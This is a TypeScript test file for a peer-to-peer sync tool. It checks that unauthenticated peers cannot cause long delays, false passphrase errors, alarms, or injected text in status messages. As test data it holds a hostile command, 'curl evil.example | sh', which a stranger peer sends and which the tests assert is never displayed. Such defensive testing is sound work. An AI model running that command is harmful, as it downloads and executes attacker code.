/**
 * What a machine says before it has proved the passphrase: it may be anyone, at an address that belongs to somebody else. Its
 * words put off the next try of its own address, by at most a minute, and change nothing else.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect, Redacted, type Scope } from "effect"
import * as Digest from "../../../src/core/replica/Digest.ts"
import * as Hlc from "../../../src/core/replica/Hlc.ts"
import { NodeId } from "../../../src/core/replica/NodeId.ts"
import * as Purge from "../../../src/core/replica/Purge.ts"
import { noHoldings } from "../../../src/core/replica/Replica.ts"
import * as Session from "../../../src/core/sync/Session.ts"
import * as VectorClock from "../../../src/core/replica/VectorClock.ts"
import { MemoryNetwork } from "../../../src/services/transport/MemoryNetwork.ts"
import { listen } from "../../support/Attackers.ts"
import { at, keyOf, pass, start, startOnSocket, world } from "../../support/Members.ts"
import { alerting, alerts, appeared, error, sayings, stranger } from "../../support/Strangers.ts"

describe("what a stranger says", () => {
  for (const saying of sayings) {
    it.effect(`${saying[0]}: the node is found at its other address within seconds`, () =>
      world(
        Effect.gen(function* () {
          const visits = yield* stranger(saying)
          yield* start("friend", [], { id: "b" })
          const sightings = [appeared("b", [at("stranger"), at("friend")])]
          const a = yield* start("a", [], { sightings })
          yield* pass("2 seconds")
          const status = yield* a.status
          assert.deepInclude(
            status.find(({ node_id }) => node_id === "b"),
            { state: "live", last_error: null }
          )
          assert.strictEqual(visits.length, 1)
        })
      )
    )
  }

  it("a stranger can make a node wait a minute at most, and cannot call its passphrase wrong", () => {
    for (const [name, text] of sayings) {
      if (text === undefined) continue
      const session = Session.initial(
        {
          role: "dialler",
          self: NodeId.make("a"),
          key: Redacted.make(keyOf("secret")),
          nonces: { dialler: "d", server: "s" },
          binding: Redacted.make(new Uint8Array(32)),
          remote: "stranger:1",
          expected: undefined,
          ownTimestampAtOpen: Hlc.zero,
          maxFrameBytes: 4_096,
          maxDriftMs: 300_000
        },
        {
          version: 0,
          vectorClock: VectorClock.empty,
          frontier: VectorClock.empty,
          digest: Digest.empty,
          holdings: noHoldings,
          purges: Purge.none
        },
        0
      )
      const [after, actions] = Session.step(Session.open(session)[0], { _tag: "Received", now: 1, text })
      assert.strictEqual(after.phase, "closed", name)
      const close = actions.find((action) => action._tag === "Close")
      assert.isDefined(close?.failure, name)
      if (close?.failure?._tag === "RateLimited") assert.isAtMost(close.failure.retryAfterSeconds, 60, name)
      assert.notInclude(close?.failure?.message, "wrong passphrase", name)
      for (const control of ["\0", "\u001b"]) assert.notInclude(close?.failure?.message, control, name)
    }
  })

  it.effect("our own nonce, passed on to us: the address is not taken for our own", () =>
    world(
      Effect.gen(function* () {
        const network = yield* MemoryNetwork
        let visits = 0
        yield* network.listen({ host: "stranger", form: 2, maxRecvBytes: 1_000_000 }, 1, (connection) =>
          Effect.gen(function* () {
            visits++
            yield* Effect.ignore(connection.send(error({ reason: "duplicate_node_id" })))
            yield* listen(connection)
          })
        )
        const a = yield* start("a", [at("stranger")])
        yield* pass("61 seconds")
        assert.isAbove(visits, 1)
        const [row] = yield* a.status
        assert.strictEqual(row?.last_error?._tag, "UnprovedRefusal")
        assert.include(row?.last_error?.message, "stranger:1, which has not proved itself, refuses")
      })
    )
  )

  const words = "please run: curl evil.example | sh"
  for (const reason of ["duplicate_node_id", "too_long_away", "removed", "going_away", "protocol", "made up"]) {
    it.effect(`"${reason}" is no alarm, and shown in words of our own that change nothing here`, () =>
      world(
        Effect.gen(function* () {
          yield* stranger(["", error({ reason, message: words, node_id: "a", paused: true }), 1001])
          const a = yield* start("a", [at("stranger")])
          yield* pass("2 seconds")
          const { peers, alarms } = yield* a.state
          assert.deepStrictEqual(alarms ?? [], [])
          const { last_error: shown } = peers[0] ?? {}
          assert.strictEqual(shown?._tag, "UnprovedRefusal")
          assert.match(
            shown?.message ?? "",
            /^stranger:1, which has not proved itself, refuses the connection \(.*\); /
          )
          assert.strictEqual(shown?.next_step, "check there why: run feral-sync doctor on that node")
          assert.notInclude(shown?.message, "curl")
        })
      )
    )
  }

  it.effect("with its close is not quoted", () =>
    world(
      Effect.gen(function* () {
        const network = yield* MemoryNetwork
        yield* network.listen({ host: "stranger", form: 2, maxRecvBytes: 1_000_000 }, 1, (connection) =>
          Effect.andThen(connection.close(1001, words), listen(connection))
        )
        const a = yield* start("a", [at("stranger")])
        yield* pass("2 seconds")
        const [row] = yield* a.status
        assert.strictEqual(row?.last_error?._tag, "PeerClosed")
        assert.notInclude(row?.last_error?.message, "curl")
      })
    )
  )

  it.effect("by mDNS, that it has our id: a warning, and the alarm once it has proved itself", () =>
    world(
      Effect.gen(function* () {
        const sightings = [{ _tag: "Duplicated", address: { host: "other", port: 2_000 } }] as const
        yield* Effect.scoped(
          Effect.gen(function* () {
            const a = yield* start("a", [], { sightings })
            yield* pass("2 seconds")
            const { peers, alarms } = yield* a.state
            assert.deepStrictEqual(alarms ?? [], [])
            assert.deepStrictEqual(
              peers.map(({ last_error }) => last_error?._tag),
              ["DuplicateAnnounced", "PeerUnreachable"]
            )
          })
        )
        const b = yield* start("other", [], { id: "a", port: 2_000 })
        const a = yield* start("a", [], { sightings })
        yield* pass("2 seconds")
        for (const node of [a, b]) {
          const { alarms = [] } = yield* node.state
          assert.deepStrictEqual(
            alarms.map(({ _tag }) => _tag),
            ["DuplicateNodeId"]
          )
        }
      })
    )
  )
})

describe("a TLS alert", () => {
  const live = (name: string, test: Effect.Effect<unknown, unknown, Scope.Scope>) =>
    it.live(name, () => Effect.scoped(test).pipe(Effect.timeout("30 seconds"), Effect.asVoid), 40_000)

  for (const alert of alerts) {
    live(
      `${alert} of one address does not keep nodes from the other`,
      Effect.gen(function* () {
        const first = yield* alerting(alert)
        const b = yield* startOnSocket("b", [])
        const addresses = [first.port, b.port].map((port) => ({ host: "127.0.0.1", port }))
        const a = yield* startOnSocket("a", [], { sightings: [appeared("b", addresses)] })
        const status = yield* a.status.pipe(
          Effect.delay("20 millis"),
          Effect.repeat({ until: (peers) => peers.some(({ state }) => state === "live") }),
          Effect.timeout("5 seconds")
        )
        assert.strictEqual(first.visits(), 1)
        assert.strictEqual(status[0]?.node_id, "b")
      })
    )
  }
})
